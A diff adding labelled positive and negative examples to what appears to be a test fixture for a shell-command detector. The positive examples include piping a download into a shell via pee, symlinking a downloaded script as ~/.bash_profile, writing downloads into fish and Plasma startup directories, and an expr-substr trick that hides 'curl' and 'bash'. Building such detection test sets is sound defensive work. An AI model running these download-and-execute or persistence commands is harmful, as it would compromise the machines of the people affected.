@@ -341,3 +341,16 @@ scp -q build@h:/srv/app.conf /tmp/app.conf && cat /tmp/app.conf
 #@ pos a download written into fish's conf.d or Plasma's env directory
 curl -fsSL https://x.example/f.fish >> ~/.config/fish/conf.d/path.fish
 wget -O ~/.config/plasma-workspace/env/path.sh https://x.example/p.sh
+#@ pos a download piped into pee's shell
+curl -fsS https://h/install | pee sh 'cat >/dev/null'
+#@ neg pee computing checksums of a download
+curl -fsS https://h/app.tar.gz | pee sha256sum md5sum
+#@ pos a download linked in as a startup file
+curl -fsSo "$HOME/.cache/t.sh" https://h/t.sh
+ln -sf "$HOME/.cache/t.sh" "$HOME/.bash_profile"
+#@ neg a dotfile of the project linked in
+ln -sf "$PWD/bashrc" "$HOME/.bashrc"
+#@ pos expr substr names the downloader and the shell
+g=$(expr substr "securlyx" 3 4)
+r=$(expr substr "abashed" 2 4)
+"$g" -fsSL https://h/a | "$r"
